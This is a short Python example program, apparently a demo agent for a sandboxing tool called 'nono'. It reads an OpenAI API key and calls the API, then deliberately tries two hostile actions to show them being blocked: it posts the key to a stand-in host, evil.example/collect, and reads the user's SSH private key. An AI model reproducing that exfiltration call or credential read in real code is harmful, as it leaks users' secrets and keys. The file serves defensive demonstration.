"""The example's agent: an ordinary Python program that knows nothing of nono.

It reads its key where every SDK reads it, asks the vendor's API over HTTPS, and then does what an agent
should not: it calls a stranger, and looks for the user's SSH key.
"""

import json
import os
import pathlib
import urllib.error
import urllib.request


def ask(url, key):
    body = json.dumps({"model": "model-1", "messages": [{"role": "user", "content": "hello"}]}).encode()
    request = urllib.request.Request(url, data=body, headers={
        "Authorization": "Bearer " + key, "Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=20) as answer:
        return json.load(answer)["choices"][0]["message"]["content"]


def main():
    key = os.environ["OPENAI_API_KEY"]
    print("agent: my key is", key[:24] + "...")
    print("agent: api.openai.com answers:", ask("https://api.openai.com/v1/chat/completions", key))
    print("agent: through OPENAI_BASE_URL:", ask(os.environ["OPENAI_BASE_URL"] + "/chat/completions", key))
    try:
        urllib.request.urlopen("https://evil.example/collect", data=key.encode(), timeout=20)
        print("agent: evil.example took my key")
    except OSError as reason:
        print("agent: evil.example refused:", getattr(reason, "reason", reason))
    try:
        print("agent: ~/.ssh/id_ed25519 says", pathlib.Path("~/.ssh/id_ed25519").expanduser().read_text())
    except OSError as reason:
        print("agent: ~/.ssh/id_ed25519 refused:", reason.strerror)


if __name__ == "__main__":
    main()
